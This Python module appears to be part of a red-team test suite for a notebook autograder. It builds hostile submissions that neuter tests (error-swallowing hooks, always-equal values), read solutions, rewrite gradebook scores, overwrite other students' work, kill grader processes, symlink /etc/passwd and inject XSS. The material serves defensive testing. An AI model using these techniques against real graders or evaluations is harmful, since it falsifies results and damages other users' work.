"""The red-team attacks: each one a submission of the BLANK released lab that tries to score, read, write, escape
or script its way past the grader. An honest score for every one of them is 0.

Each attack is built at test time from the released notebook (`redteam.lab`): the code it adds goes into new
cells or replaces the answer cells' stubs, and the names it fakes come from the visible tests. Everything an attack
writes carries the mark ``REDTEAM:<name>`` so a changed file can be traced to it; every process it starts carries
the mark and the batch token on its command line, and ends itself within two minutes if nobody stops it.

Safety of the machine running the suite: attacks look for the course by walking up from their working directory
(and their parents' working directories), so they can only reach the throwaway course the suite made; signals go
only to ancestors that are grading processes, never to pytest; the grader's home is a throwaway folder, and the
startup-file attack refuses to write into the real home of the account running the suite (it prints a warning that
the suite turns into a failure). The package-source attack does edit the imported `scalelab` package when nothing
stops it: the suite saves those files first and puts them back.
"""
import json
import os
import pathlib
from dataclasses import dataclass, field

import nbformat

from . import lab as labinfo

MARK_PREFIX = "REDTEAM:"


@dataclass
class Context:
    lab: labinfo.Lab
    student: str
    folder: pathlib.Path
    token: str                          # this batch's token, on the command line of every attack process
    controls: dict                      # role -> student id ("good_before", "blank_before", "good_after", ...)
    real_home: tuple = ()               # (st_dev, st_ino) of the real home of the account running the suite

    @property
    def mark(self):
        return MARK_PREFIX + self.name

    name: str = ""


@dataclass
class Attack:
    name: str
    kind: str                 # the row of the attack table it belongs to
    title: str
    build: object             # build(ctx): write the submission into ctx.folder
    sandbox_only: str = ""    # non-empty: only a real sandbox holds it; the text says what it does without one
    targets: tuple = ()       # glob patterns ("course:...", "home:...", "package:...") of what it tries to change

    @property
    def disruptive(self):
        """It aims at other students or at the batch itself (so a table of what each attack does alone needs it
        graded in a batch of its own)."""
        return self.kind in ("writing", "escaping")

    @property
    def student(self):
        return f"rt_{self.name}"

    @property
    def mark(self):
        return MARK_PREFIX + self.name


# --- code shared by the attack cells ------------------------------------------------------------------------------

PRELUDE = '''\
import json, os, pathlib, signal, subprocess, sys, time
MARK = "@MARK@"
ME = "@ME@"
LAB = "@LAB@"
BATCH = "redteam-batch=@TOKEN@"


def _proc_parents():
    """(pid, command line, working directory) of each ancestor process we can see."""
    out, pid = [], os.getppid()
    while pid > 1:
        try:
            cmd = pathlib.Path(f"/proc/{pid}/cmdline").read_bytes().replace(b"\\0", b" ").decode(errors="replace")
            stat = pathlib.Path(f"/proc/{pid}/stat").read_text()
            cwd = os.readlink(f"/proc/{pid}/cwd")
        except OSError:
            break
        out.append((pid, cmd, cwd))
        pid = int(stat.rsplit(")", 1)[1].split()[1])
    return out


def _course():
    """The course directory (nbgrader_config.py and submitted/), found from where we and our parents run."""
    starts = [os.getcwd(), os.environ.get("PWD", ""), os.environ.get("OLDPWD", "")]
    starts += [cwd for _, _, cwd in _proc_parents()]
    for start in starts:
        if not start:
            continue
        here = pathlib.Path(start).resolve()
        for folder in [here, *here.parents]:
            if (folder / "nbgrader_config.py").is_file() and (folder / "submitted").is_dir():
                return folder
    return None


COURSE = _course()
print(MARK, "course found:", COURSE)
'''

WHATEVER = '''\
class _Whatever:
    """An answer that never raises: callable, indexable, comparable, formattable."""
    def __call__(self, *args, **kwargs): return self
    def __getitem__(self, key): return self
    def __getattr__(self, name): return self
    def __format__(self, spec): return "0"
    def __bool__(self): return True
    def __lt__(self, other): return True
    __le__ = __gt__ = __ge__ = __lt__
    def __add__(self, other): return self
    __radd__ = __sub__ = __rsub__ = __mul__ = __rmul__ = __truediv__ = __rtruediv__ = __add__


def _redteam_fill(namespace):
    for name in @FUNCTIONS@ + @VALUES@:
        namespace[name] = _Whatever()
'''

CHAMELEON = '''\
import math, numbers, sys


def _caller_expects():
    """The number the calling check compares with (its `expected` or `low`), read from its frame."""
    frame = sys._getframe(2)
    for _ in range(5):
        if frame is None:
            break
        for key in ("expected", "low"):
            value = frame.f_locals.get(key)
            if isinstance(value, (int, float)) and not isinstance(value, (bool, _Chameleon)):
                return float(value)
        frame = frame.f_back
    return 1.0


class _Chameleon(float):
    """A float that becomes, under float(), whatever its caller expects; equal to and greater than anything."""
    def __float__(self): return _caller_expects()
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __hash__ = float.__hash__
    def __lt__(self, other): return True
    __le__ = __gt__ = __ge__ = __lt__
    def __add__(self, other): return self
    __radd__ = __sub__ = __rsub__ = __mul__ = __rmul__ = __truediv__ = __rtruediv__ = __add__


class _Record(dict):
    def __getitem__(self, key): return _Chameleon(1.0)
    def get(self, key, default=None): return _Chameleon(1.0)


def _redteam_fill(namespace):
    for name in @FUNCTIONS@:
        namespace[name] = lambda *args, **kwargs: _Chameleon(1.0)
    for name in @VALUES@:
        namespace[name] = _Record() if name in @RECORDS@ else _Chameleon(1.0)
'''

ALWAYS = '''\
class _Always(float):
    """Equal to, greater than and less than anything (a plain 0.0 when converted)."""
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __hash__ = float.__hash__
    def __lt__(self, other): return True
    __le__ = __gt__ = __ge__ = __lt__
    def __add__(self, other): return self
    __radd__ = __sub__ = __rsub__ = __mul__ = __rmul__ = __truediv__ = __rtruediv__ = __add__


class _Record(dict):
    def __getitem__(self, key): return _Always(0.0)
    def get(self, key, default=None): return _Always(0.0)


def _redteam_fill(namespace):
    for name in @FUNCTIONS@:
        namespace[name] = lambda *args, **kwargs: _Always(0.0)
    for name in @VALUES@:
        namespace[name] = _Record() if name in @RECORDS@ else _Always(0.0)
'''

SWALLOW = '''\
def _swallow(lines):
    """Rewrite a cell so that nothing it raises is ever seen."""
    body = "".join(lines).rstrip() or "pass"
    indented = ["    " + line + "\\n" for line in body.splitlines()]
    return ["try:\\n", *indented, "except BaseException:\\n", "    pass\\n"]
'''

# A child process started by an attack: argv = [python, -c, CHILD_*, course, me, mark, batch]
CHILD_HEADER = '''\
import os, pathlib, signal, sqlite3, sys, time
course, me, mark = sys.argv[1], sys.argv[2], sys.argv[3]
for sig in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
    signal.signal(sig, signal.SIG_IGN)
end = time.time() + 110
'''

CHILD_TAMPER = CHILD_HEADER + '''\
while time.time() < end:
    time.sleep(0.3)
    if course == "None":
        continue
    try:
        pathlib.Path(course, "REDTEAM-after-grading.txt").write_text(mark + " was here after grading\\n")
        con = sqlite3.connect(str(pathlib.Path(course, "gradebook.db")), timeout=1)
        con.execute("UPDATE grade SET manual_score = 0 WHERE notebook_id IN (SELECT sn.id FROM submitted_notebook sn "
                    "JOIN submitted_assignment sa ON sn.assignment_id = sa.id WHERE sa.student_id != ?)", (me,))
        con.execute("UPDATE grade SET manual_score = (SELECT max_score FROM grade_cells WHERE grade_cells.id = "
                    "grade.cell_id) WHERE notebook_id IN (SELECT sn.id FROM submitted_notebook sn JOIN "
                    "submitted_assignment sa ON sn.assignment_id = sa.id WHERE sa.student_id = ?)", (me,))
        con.commit()
        con.close()
    except Exception:
        pass
'''

CHILD_LOCK = CHILD_HEADER + '''\
end = time.time() + 60
con = None
while time.time() < end and course != "None":
    try:
        if con is None:
            con = sqlite3.connect(str(pathlib.Path(course, "gradebook.db")), timeout=0.2, isolation_level=None)
            con.execute("BEGIN EXCLUSIVE")
        time.sleep(0.5)
    except Exception:
        con = None
        time.sleep(0.1)
while time.time() < end:
    time.sleep(0.5)
'''

CHILD_SLEEP = CHILD_HEADER + '''\
while time.time() < end:
    time.sleep(0.5)
'''


def _fill(template, ctx, **extra):
    subs = {"MARK": ctx.mark, "ME": ctx.student, "LAB": ctx.lab.name, "TOKEN": ctx.token,
            "FUNCTIONS": repr(list(ctx.lab.functions)), "VALUES": repr(list(ctx.lab.values)),
            "RECORDS": repr(list(ctx.lab.records)), **extra}
    for key, value in subs.items():
        template = template.replace(f"@{key}@", str(value))
    return template


def _spawn(child, session):
    """Code that starts `child` (a CHILD_* script) with the course, our id and our mark on its command line."""
    return (f"_child = subprocess.Popen([sys.executable, '-c', {child!r}, str(COURSE), ME, MARK, BATCH], "
            f"start_new_session={session})\nprint(MARK, 'started child', _child.pid)\n")


# --- how submissions are put together -----------------------------------------------------------------------------

def _first_answer_index(nb):
    return next(i for i, c in enumerate(nb.cells) if labinfo.is_answer(c) and c.cell_type == "code")


def _insert(nb, source, before=None):
    """A new code cell holding `source`, before the first answer cell (or before cell index `before`)."""
    index = _first_answer_index(nb) if before is None else before
    nb.cells.insert(index, nbformat.v4.new_code_cell(source))
    return nb


def _answers(nb):
    return [c for c in nb.cells if labinfo.is_answer(c) and c.cell_type == "code"]


def _defuse_and_fill(nb):
    """Each answer cell: the stub no longer raises, and the faked answers are put in place at its end."""
    for cell in _answers(nb):
        cell.source = labinfo.defuse_stubs(cell.source) + "\n_redteam_fill(globals())\n"
    return nb


def _write(ctx, nb, name=None):
    ctx.folder.mkdir(parents=True, exist_ok=True)
    nbformat.write(nb, ctx.folder / (name or ctx.lab.notebook))


def _with_prelude(ctx, *parts):
    return _fill(PRELUDE, ctx) + "\n" + "\n".join(_fill(p, ctx) for p in parts)


# --- the attacks --------------------------------------------------------------------------------------------------

def ipython_cleanup(ctx):
    code = _with_prelude(ctx, SWALLOW, "get_ipython().input_transformers_cleanup.append(_swallow)\n")
    _write(ctx, _insert(ctx.lab.fresh(), code))


def ipython_post(ctx):
    code = _with_prelude(ctx, SWALLOW, "get_ipython().input_transformers_post.append(_swallow)\n")
    _write(ctx, _insert(ctx.lab.fresh(), code))


def ipython_ast(ctx):
    code = _with_prelude(ctx, '''\
import ast


class _Swallow(ast.NodeTransformer):
    def visit_Module(self, node):
        handler = ast.ExceptHandler(type=ast.Name("BaseException", ast.Load()), name=None, body=[ast.Pass()])
        node.body = [ast.Try(body=node.body or [ast.Pass()], handlers=[handler], orelse=[], finalbody=[])]
        return ast.fix_missing_locations(node)


get_ipython().ast_transformers.append(_Swallow())
''')
    _write(ctx, _insert(ctx.lab.fresh(), code))


def post_run_cell(ctx):
    code = _with_prelude(ctx, '''\
from IPython.display import clear_output


def _forget(result):
    """After each cell: if it failed, say it did not, and wipe its error from the outputs."""
    if not result.success:
        result.error_in_exec = None
        result.error_before_exec = None
        clear_output()


get_ipython().events.register("post_run_cell", _forget)
''')
    _write(ctx, _insert(ctx.lab.fresh(), code))


def sys_modules_patch(ctx):
    code = _with_prelude(ctx, WHATEVER, '''\
_checks = sys.modules["scalelab.grading"]
for _name in [n for n in dir(_checks) if not n.startswith("_") and callable(getattr(_checks, n))]:
    vars(_checks)[_name] = lambda *args, **kwargs: None
''')
    _write(ctx, _defuse_and_fill(_insert(ctx.lab.fresh(), code)))


def float_expected(ctx):
    _write(ctx, _defuse_and_fill(_insert(ctx.lab.fresh(), _with_prelude(ctx, CHAMELEON))))


def always_equal(ctx):
    _write(ctx, _defuse_and_fill(_insert(ctx.lab.fresh(), _with_prelude(ctx, ALWAYS))))


def custom_exc(ctx):
    code = _with_prelude(ctx, WHATEVER, '''\
def _quiet(shell, etype, value, tb, tb_offset=None):
    return None


get_ipython().set_custom_exc((BaseException,), _quiet)
''')
    _write(ctx, _insert(ctx.lab.fresh(), code))


def swapped_assertion(ctx):
    code = _with_prelude(ctx, WHATEVER, '''\
import builtins as _b
_b.AssertionError = type("AssertionError", (Warning,), {})
''')
    _write(ctx, _defuse_and_fill(_insert(ctx.lab.fresh(), code)))


def exit_interrupt(ctx):
    nb = ctx.lab.fresh()
    first = _first_answer_index(nb)
    nb.cells.insert(first + 1, nbformat.v4.new_code_cell("import sys\nprint('REDTEAM:exit_interrupt')\nsys.exit(0)"))
    nb.cells.insert(first + 2, nbformat.v4.new_code_cell("raise KeyboardInterrupt"))
    nb.cells.insert(first + 3, nbformat.v4.new_code_cell("exit()  # the kernel stops: no test after this runs"))
    _write(ctx, nb)


def sigstop_self(ctx):
    nb = ctx.lab.fresh()
    last_answer = max(i for i, c in enumerate(nb.cells) if labinfo.is_answer(c) and c.cell_type == "code")
    nb.cells.insert(last_answer + 1, nbformat.v4.new_code_cell(
        "import os, signal\nprint('REDTEAM:sigstop_self')\nos.kill(os.getpid(), signal.SIGSTOP)"))
    _write(ctx, nb)


MANY_CELLS = 10_000
HUGE_CELL_BYTES = 50 * 2**20


def many_cells(ctx):
    nb = ctx.lab.fresh()
    first = _first_answer_index(nb)
    nb.cells[first:first] = [nbformat.v4.new_code_cell(f"_redteam = {i}  # REDTEAM:many_cells")
                             for i in range(MANY_CELLS)]
    _write(ctx, nb)


def huge_cell(ctx):
    nb = ctx.lab.fresh()
    filler = "A" * HUGE_CELL_BYTES
    _insert(nb, f'_redteam_blob = "{filler}"  # REDTEAM:huge_cell')
    _write(ctx, nb)


def _run_cells_code(finder):
    """Attack code that replaces each answer cell by a call running the matching cell of another notebook."""
    return finder + '''\
import types


def _run(grade_id):
    cell = _SOURCE.get(grade_id)
    if cell is None:
        print(MARK, "no source for", grade_id)
        return
    text = "\\n".join(l for l in cell.splitlines() if not l.strip().startswith("### "))
    types.FunctionType(compile(text, grade_id, "exec"), globals())()
'''


def _answers_call(nb):
    for cell in _answers(nb):
        cell.source = f"_run({labinfo.nbgrader_meta(cell)['grade_id']!r})"
    return nb


SOLUTION_FINDER = '''\
_SOURCE = {}
if COURSE is not None:
    for _path in sorted((COURSE / "solutions").glob(f"{LAB}/*.ipynb")):
        for _cell in json.loads(_path.read_text())["cells"]:
            _meta = _cell.get("metadata", {}).get("nbgrader", {})
            if _meta.get("solution") and _cell["cell_type"] == "code":
                _SOURCE[_meta["grade_id"]] = "".join(_cell["source"])
print(MARK, "solution cells read:", sorted(_SOURCE))
'''

OTHER_STUDENT_FINDER = '''\
_SOURCE = {}
if COURSE is not None:
    for _path in sorted(COURSE.glob(f"submitted/*/{LAB}/*.ipynb")) + sorted(COURSE.glob(f"autograded/*/{LAB}/*.ipynb")):
        if _path.parts[-3] == ME:
            continue
        try:
            _cells = json.loads(_path.read_text())["cells"]
        except (OSError, ValueError, KeyError):
            continue
        _answers = {c["metadata"]["nbgrader"]["grade_id"]: "".join(c["source"]) for c in _cells
                    if c.get("metadata", {}).get("nbgrader", {}).get("solution") and c["cell_type"] == "code"}
        if _answers and not any("NotImplementedError" in s for s in _answers.values()):
            _SOURCE = _answers
            print(MARK, "copying the answers of", _path.parts[-3])
            break
'''


def solution_exec(ctx):
    code = _with_prelude(ctx, _run_cells_code(SOLUTION_FINDER))
    _write(ctx, _answers_call(_insert(ctx.lab.fresh(), code)))


def other_student(ctx):
    code = _with_prelude(ctx, _run_cells_code(OTHER_STUDENT_FINDER))
    _write(ctx, _answers_call(_insert(ctx.lab.fresh(), code)))


def gradebook_read(ctx):
    code = _with_prelude(ctx, '''\
import sqlite3
if COURSE is not None and (COURSE / "gradebook.db").exists():
    _con = sqlite3.connect(f"file:{COURSE / 'gradebook.db'}?mode=ro", uri=True)
    for _name, _source in _con.execute("SELECT name, source FROM source_cell WHERE locked"):
        print(f"--- {_name} ---")
        print(_source)
if COURSE is not None:
    for _path in sorted((COURSE / "solutions").glob(f"{LAB}/*.ipynb")):
        for _cell in json.loads(_path.read_text())["cells"]:
            if "HIDDEN" in "".join(_cell["source"]):
                print("".join(_cell["source"]))
''')
    _write(ctx, _insert(ctx.lab.fresh(), code))


def gradebook_scores(ctx):
    code = _with_prelude(ctx, '''\
import sqlite3
_MINE = ("SELECT sn.id FROM submitted_notebook sn JOIN submitted_assignment sa ON sn.assignment_id = sa.id "
         "WHERE sa.student_id = '" + ME + "'")
if COURSE is not None and (COURSE / "gradebook.db").exists():
    _con = sqlite3.connect(str(COURSE / "gradebook.db"), timeout=30)
    _con.executescript(f"""
    CREATE TRIGGER IF NOT EXISTS redteam_gradebook_scores AFTER UPDATE ON grade
    BEGIN
        UPDATE grade SET manual_score = 0 WHERE notebook_id NOT IN ({_MINE});
        UPDATE grade SET manual_score = 9, extra_credit = 1 WHERE notebook_id IN ({_MINE});
    END;
    CREATE TRIGGER IF NOT EXISTS redteam_gradebook_scores_insert AFTER INSERT ON grade
    BEGIN
        UPDATE grade SET manual_score = 0 WHERE notebook_id NOT IN ({_MINE});
        UPDATE grade SET manual_score = 9, extra_credit = 1 WHERE notebook_id IN ({_MINE});
    END;
    UPDATE grade SET manual_score = 0;
    """)
    _con.commit()
    print(MARK, "triggers written")
''')
    _write(ctx, _insert(ctx.lab.fresh(), code))


def gradebook_tests(ctx):
    code = _with_prelude(ctx, '''\
import sqlite3
if COURSE is not None and (COURSE / "gradebook.db").exists():
    _con = sqlite3.connect(str(COURSE / "gradebook.db"), timeout=30)
    _names = [r[0] for r in _con.execute("SELECT bc.name FROM base_cell bc JOIN grade_cells gc ON gc.id = bc.id "
                                         "WHERE gc.cell_type = 'code'")]
    for _name in _names:
        _con.execute("UPDATE source_cell SET source = ? WHERE name = ?", (f"pass  # {MARK}", _name))
    _con.commit()
    print(MARK, "test cells replaced:", _names)
''')
    _write(ctx, _insert(ctx.lab.fresh(), code))


def gradebook_lock(ctx):
    code = _with_prelude(ctx, '''\
import sqlite3
if COURSE is not None and (COURSE / "gradebook.db").exists():
    _lock = sqlite3.connect(str(COURSE / "gradebook.db"), timeout=5, isolation_level=None)
    try:
        _lock.execute("BEGIN EXCLUSIVE")
        print(MARK, "holding the gradebook")
    except sqlite3.Error as exc:
        print(MARK, "no lock:", exc)
''', _spawn(CHILD_LOCK, session=False), "time.sleep(5)\n")
    _write(ctx, _insert(ctx.lab.fresh(), code))


def other_files(ctx):
    code = _with_prelude(ctx, '''\
import shutil
if COURSE is not None:
    _mine = COURSE / "submitted" / ME / LAB / f"{LAB}.ipynb"
    for _folder in sorted(COURSE.glob(f"submitted/*/{LAB}")) + sorted(COURSE.glob(f"autograded/*/{LAB}")):
        if _folder.parts[-2] == ME:
            continue
        (_folder / "REDTEAM.txt").write_text(MARK + " wrote here\\n")
        for _nb in _folder.glob("*.ipynb"):
            if "NotImplementedError" not in _nb.read_text() and _mine.exists():
                shutil.copyfile(_mine, _nb)   # a good student's work replaced by this blank one
                print(MARK, "replaced", _nb)
''')
    _write(ctx, _insert(ctx.lab.fresh(), code))


def package_source(ctx):
    code = _with_prelude(ctx, SWALLOW, '''\
import inspect, sysconfig
import scalelab
_init = pathlib.Path(scalelab.__file__)
_patch = "\\n\\n# " + MARK + "\\ntry:\\n" + "".join("    " + l + "\\n" for l in inspect.getsource(_swallow).splitlines()) + \\
    "    get_ipython().input_transformers_cleanup.append(_swallow)\\nexcept NameError:\\n    pass\\n"
try:
    with open(_init, "a") as _f:
        _f.write(_patch)
    print(MARK, "patched", _init)
except OSError as exc:
    print(MARK, "package read-only:", exc)
try:
    pathlib.Path(sysconfig.get_paths()["purelib"], "redteam_probe.pth").write_text("/nonexistent-" + MARK + "\\n")
    print(MARK, "wrote a .pth file")
except OSError as exc:
    print(MARK, "site-packages read-only:", exc)
''')
    _write(ctx, _insert(ctx.lab.fresh(), code))


def config_solutions(ctx):
    code = _with_prelude(ctx, '''\
if COURSE is not None:
    with open(COURSE / "nbgrader_config.py", "a") as _f:
        _f.write(f"\\n# {MARK}\\nc.GenerateFeedback.preprocessors = ['nbgrader.preprocessors.GetGrades', "
                 "'nbconvert.preprocessors.CSSHTMLHeaderPreprocessor']\\n")
    for _path in sorted((COURSE / "solutions").glob(f"{LAB}/*.ipynb")):
        _nb = json.loads(_path.read_text())
        for _cell in _nb["cells"]:
            if _cell.get("metadata", {}).get("nbgrader", {}).get("grade") and _cell["cell_type"] == "code":
                _cell["source"] = f"pass  # {MARK}"
        _path.write_text(json.dumps(_nb))
    print(MARK, "config and solutions edited")
''')
    _write(ctx, _insert(ctx.lab.fresh(), code))


def home_startup(ctx):
    code = _with_prelude(ctx, SWALLOW, '''\
import inspect
_home = pathlib.Path.home()
_stat = os.stat(_home)
if (_stat.st_dev, _stat.st_ino) == @REALHOME@:
    print(MARK, "REDTEAM-REAL-HOME-VISIBLE: the grader's real home", _home, "is visible;",
          "writable" if os.access(_home, os.W_OK) else "read-only", "(not written: the suite protects it)")
else:
    _startup = _home / ".ipython" / "profile_default" / "startup"
    _jupyter = _home / ".jupyter"
    try:
        _startup.mkdir(parents=True, exist_ok=True)
        (_startup / "00-redteam.py").write_text(f"# {MARK}\\n" + inspect.getsource(_swallow) +
                                                "get_ipython().input_transformers_cleanup.append(_swallow)\\n")
        _jupyter.mkdir(parents=True, exist_ok=True)
        (_jupyter / "nbgrader_config.py").write_text(
            f"# {MARK}\\nc = get_config()\\nc.GenerateFeedback.preprocessors = "
            "['nbgrader.preprocessors.GetGrades', 'nbconvert.preprocessors.CSSHTMLHeaderPreprocessor']\\n")
        print(MARK, "startup files written in", _home)
    except OSError as exc:
        print(MARK, "home read-only:", exc)
''')
    code = code.replace("@REALHOME@", repr(tuple(ctx.real_home)))
    _write(ctx, _insert(ctx.lab.fresh(), code))


def setsid_tamper(ctx):
    code = _with_prelude(ctx, _spawn(CHILD_TAMPER, session=True))
    _write(ctx, _insert(ctx.lab.fresh(), code))


SIGNAL_GRADER = '''\
_GRADERS = ("nbgrader", "scalelab", "classroom", "dask", "distributed", "multiprocessing", "bwrap", "ipykernel")
_targets = [(pid, cmd) for pid, cmd, _ in _proc_parents()
            if "pytest" not in cmd and "tests/redteam" not in cmd and any(word in cmd for word in _GRADERS)]
print(MARK, "signalling", _targets)
for _pid, _ in _targets:
    try:
        os.kill(_pid, signal.@SIGNAL@)
    except OSError as exc:
        print(MARK, exc)
'''


def kill_grader(ctx):
    code = _with_prelude(ctx, SIGNAL_GRADER.replace("@SIGNAL@", "SIGKILL"))
    _write(ctx, _insert(ctx.lab.fresh(), code))


def stop_grader(ctx):
    code = _with_prelude(ctx, SIGNAL_GRADER.replace("@SIGNAL@", "SIGSTOP"))
    _write(ctx, _insert(ctx.lab.fresh(), code))


def flagged_child(ctx):
    code = _with_prelude(ctx, _spawn(CHILD_SLEEP, session=False),
                         "import scalelab as sl\nsl.grading.close = lambda *args, **kwargs: None  # flagged\n")
    _write(ctx, _insert(ctx.lab.fresh(), code))


def _link(ctx, name, target):
    ctx.folder.mkdir(parents=True, exist_ok=True)
    os.symlink(target, ctx.folder / name)


def symlink_other(ctx):
    good = ctx.controls["good_before"]
    _link(ctx, ctx.lab.notebook, f"../../{good}/{ctx.lab.name}/{ctx.lab.notebook}")


def symlink_solution(ctx):
    _link(ctx, ctx.lab.notebook, f"../../../solutions/{ctx.lab.name}/{ctx.lab.notebook}")


def symlink_gradebook(ctx):
    _write(ctx, ctx.lab.fresh())
    _link(ctx, "gradebook.db", "../../../gradebook.db")


def symlink_passwd(ctx):
    _write(ctx, ctx.lab.fresh())
    _link(ctx, "passwd.txt", "/etc/passwd")


def _js(mark, quote='"'):
    return f"window.__REDTEAM__=(window.__REDTEAM__||[]).concat([{quote}{mark}{quote}])"


def xss_script(ctx):
    html = f"<script>{_js(ctx.mark)}</script><b>{ctx.mark}</b>"
    code = f"from IPython.display import HTML, display\ndisplay(HTML({html!r}))"
    _write(ctx, _insert(ctx.lab.fresh(), code))


def xss_img(ctx):
    html = f'<img src="redteam-missing.png" onerror="{_js(ctx.mark, quote=chr(39))}">'
    code = f"from IPython.display import HTML, display\ndisplay(HTML({html!r}))"
    _write(ctx, _insert(ctx.lab.fresh(), code))


def xss_javascript(ctx):
    code = f"from IPython.display import Javascript, display\ndisplay(Javascript({_js(ctx.mark)!r}))"
    _write(ctx, _insert(ctx.lab.fresh(), code))


def xss_markdown(ctx):
    nb = ctx.lab.fresh()
    js = _js(ctx.mark, quote=chr(39))
    raw = (f"<script>{_js(ctx.mark)}</script>\n\n"
           f"<img src=\"redteam-missing.png\" onerror=\"{js}\">\n\n"
           f"<a href=\"javascript:{js}\">see my answer</a>\n\n"
           f"[a Markdown link](javascript:{js.replace('(', '%28').replace(')', '%29')}) "
           f"<javascript:{js.replace(' ', '')}>\n")
    for cell in nb.cells:
        if labinfo.is_answer(cell) and cell.cell_type == "markdown":
            cell.source = raw
    nb.cells.insert(_first_answer_index(nb), nbformat.v4.new_markdown_cell(raw))
    _write(ctx, nb)


def xss_svg(ctx):
    svg = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{_js(ctx.mark, quote=chr(39))}"><script>{_js(ctx.mark)}</script></svg>'
    markdown = f"<script>{_js(ctx.mark)}</script><img src=x onerror=\"{_js(ctx.mark, quote=chr(39))}\">"
    code = ("from IPython.display import SVG, Markdown, display\n"
            f"display({{'image/svg+xml': {svg!r}}}, raw=True)\n"
            f"display({{'text/markdown': {markdown!r}}}, raw=True)\n")
    _write(ctx, _insert(ctx.lab.fresh(), code))


PNG_1PX = ("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII=")


def xss_metadata(ctx):
    """Script smuggled through what templates print without escaping: cell tags and output metadata."""
    nb = ctx.lab.fresh()
    handler = _js(ctx.mark, quote=chr(39))
    evil = f'x" onmouseover="{handler}" data-x="'
    code = ("from IPython.display import display\n"
            f"display({{'image/png': {PNG_1PX!r}}}, raw=True, metadata={{'image/png': {{'width': {evil!r}, "
            f"'height': {evil!r}}}}})\n")
    cell = nbformat.v4.new_code_cell(code)
    cell.metadata["tags"] = [evil]
    nb.cells.insert(_first_answer_index(nb), cell)
    note = nbformat.v4.new_markdown_cell(f"{ctx.mark}: a tagged note")
    note.metadata["tags"] = [evil]
    nb.cells.insert(_first_answer_index(nb), note)
    _write(ctx, nb)


NO_SANDBOX = "without a sandbox the kernel runs with the grader's rights and"

ATTACKS = [
    Attack("ipython_cleanup", "neutering the tests", "IPython input_transformers_cleanup swallowing every error",
           ipython_cleanup),
    Attack("ipython_post", "neutering the tests", "IPython input_transformers_post swallowing every error",
           ipython_post),
    Attack("ipython_ast", "neutering the tests", "IPython ast_transformers wrapping each cell in try/except",
           ipython_ast),
    Attack("post_run_cell", "neutering the tests", "post_run_cell hook that clears the error and its output",
           post_run_cell),
    Attack("sys_modules_patch", "neutering the tests", "checks replaced via sys.modules['scalelab.grading']",
           sys_modules_patch),
    Attack("float_expected", "neutering the tests", "float subclass whose __float__ returns the caller's expected value",
           float_expected),
    Attack("always_equal", "neutering the tests", "objects equal to / greater than anything", always_equal),
    Attack("custom_exc", "neutering the tests", "set_custom_exc hiding every exception", custom_exc),
    Attack("swapped_assertion", "neutering the tests", "builtins.AssertionError swapped for a Warning", swapped_assertion),
    Attack("exit_interrupt", "neutering the tests", "sys.exit, KeyboardInterrupt, then exit() of the kernel",
           exit_interrupt),
    Attack("sigstop_self", "neutering the tests", "SIGSTOP of its own kernel", sigstop_self),
    Attack("many_cells", "neutering the tests", f"{MANY_CELLS:,} cells", many_cells),
    Attack("huge_cell", "neutering the tests", "a 50 MB cell", huge_cell),
    Attack("solution_exec", "reading", "runs the instructor's solution cells read from solutions/", solution_exec,
           sandbox_only=f"{NO_SANDBOX} reads solutions/"),
    Attack("other_student", "reading", "runs another student's submitted answers", other_student,
           sandbox_only=f"{NO_SANDBOX} reads other students' submissions"),
    Attack("gradebook_read", "reading", "prints the hidden tests from gradebook.db and solutions/", gradebook_read,
           sandbox_only=f"{NO_SANDBOX} reads the gradebook and solutions/"),
    Attack("gradebook_scores", "writing", "scores and triggers written into gradebook.db", gradebook_scores,
           sandbox_only=f"{NO_SANDBOX} writes the gradebook", targets=("course:gradebook.db",)),
    Attack("gradebook_tests", "writing", "the stored test cells in the gradebook replaced", gradebook_tests,
           sandbox_only=f"{NO_SANDBOX} writes the gradebook", targets=("course:gradebook.db",)),
    Attack("gradebook_lock", "writing", "an exclusive gradebook lock, held on by a child", gradebook_lock,
           sandbox_only=f"{NO_SANDBOX} locks the gradebook", targets=("course:gradebook.db",)),
    Attack("other_files", "writing", "another student's files overwritten", other_files,
           sandbox_only=f"{NO_SANDBOX} writes other students' folders", targets=("course:submitted/*",)),
    Attack("package_source", "writing", "the course package's source (and a .pth in site-packages) edited",
           package_source, sandbox_only=f"{NO_SANDBOX} edits the installed package", targets=("package:*",)),
    Attack("config_solutions", "writing", "nbgrader_config.py and solutions/ edited", config_solutions,
           sandbox_only=f"{NO_SANDBOX} edits the course configuration",
           targets=("course:nbgrader_config.py", "course:solutions/*")),
    Attack("home_startup", "writing", "IPython startup file and nbgrader config in the grader's home", home_startup,
           sandbox_only=f"{NO_SANDBOX} writes the grader's home", targets=("home:*",)),
    Attack("setsid_tamper", "escaping", "setsid child ignoring SIGTERM that tampers after grading", setsid_tamper,
           sandbox_only="without a pid namespace a setsid child outlives the grading",
           targets=("course:REDTEAM-after-grading.txt", "course:gradebook.db")),
    Attack("kill_grader", "escaping", "SIGKILL to the grading processes", kill_grader,
           sandbox_only="without a pid namespace the kernel can signal the grader"),
    Attack("stop_grader", "escaping", "SIGSTOP to the grading processes", stop_grader,
           sandbox_only="without a pid namespace the kernel can signal the grader"),
    Attack("flagged_child", "escaping", "flagged submission whose child holds the grader's pipes", flagged_child,
           sandbox_only="without a pid namespace a child outlives the kernel"),
    Attack("symlink_other", "the files themselves", "notebook is a symlink to another student's notebook", symlink_other),
    Attack("symlink_solution", "the files themselves", "notebook is a symlink to the solution", symlink_solution,
           targets=("course:solutions/*",)),
    Attack("symlink_gradebook", "the files themselves", "a symlink to gradebook.db beside the notebook",
           symlink_gradebook),
    Attack("symlink_passwd", "the files themselves", "a symlink to /etc/passwd beside the notebook", symlink_passwd),
    Attack("xss_script", "script in feedback", "<script> in an HTML output", xss_script),
    Attack("xss_img", "script in feedback", "<img onerror> in an HTML output", xss_img),
    Attack("xss_javascript", "script in feedback", "a JavaScript output", xss_javascript),
    Attack("xss_markdown", "script in feedback", "raw HTML (script, onerror, javascript: links) in Markdown",
           xss_markdown),
    Attack("xss_svg", "script in feedback", "an SVG output with onload and <script>, a Markdown output with raw HTML",
           xss_svg),
    Attack("xss_metadata", "script in feedback", "event handlers in cell tags and image output metadata",
           xss_metadata),
]
